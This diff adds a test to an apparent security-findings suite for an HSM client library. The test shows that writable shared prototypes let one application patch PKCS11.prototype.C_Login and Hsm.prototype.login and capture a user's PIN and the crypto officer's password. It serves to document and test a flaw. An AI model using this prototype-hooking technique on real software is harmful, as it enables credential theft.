@@ -291,3 +291,31 @@ describe("F8: a cluster client forges replication and becomes a CO of every HSM"
     expect(attacker.login(ALICE.username, "stolen-pass-1")).toBeDefined();
   });
 });
+
+describe("F2b: the PKCS11 and Hsm prototypes are shared and writable: one application reads every other's passwords", () => {
+  it("patching PKCS11.prototype.C_Login and Hsm.prototype.login records the victim's and the CO's passwords", () => {
+    device = activatedDevice();
+    const { hsm } = device;
+    const stolen: string[] = [];
+    const cLogin = H.PKCS11.prototype.C_Login, hLogin = H.Hsm.prototype.login;
+    try {
+      // The attacker application: it only needs to import the package.
+      H.PKCS11.prototype.C_Login = function (this: H.PKCS11, session: Buffer, type: number, pin?: string) {
+        stolen.push(String(pin));
+        return cLogin.call(this, session, type, pin);
+      };
+      H.Hsm.prototype.login = function (this: H.Hsm, name: string, password: string, session?: number | null) {
+        stolen.push(`${name}/${password}`);
+        return hLogin.call(this, name, password, session);
+      };
+      cuSession(hsm, "alice", "alice-password"); // the victim application
+      hsm.login("admin", "co-password-1"); // the operator's console
+    } finally {
+      H.PKCS11.prototype.C_Login = cLogin;
+      H.Hsm.prototype.login = hLogin;
+    }
+    expect(stolen).toContain("alice:alice-password");
+    expect(stolen).toContain("admin/co-password-1");
+    expect(Object.isFrozen(H.PKCS11.prototype)).toBe(false);
+  });
+});
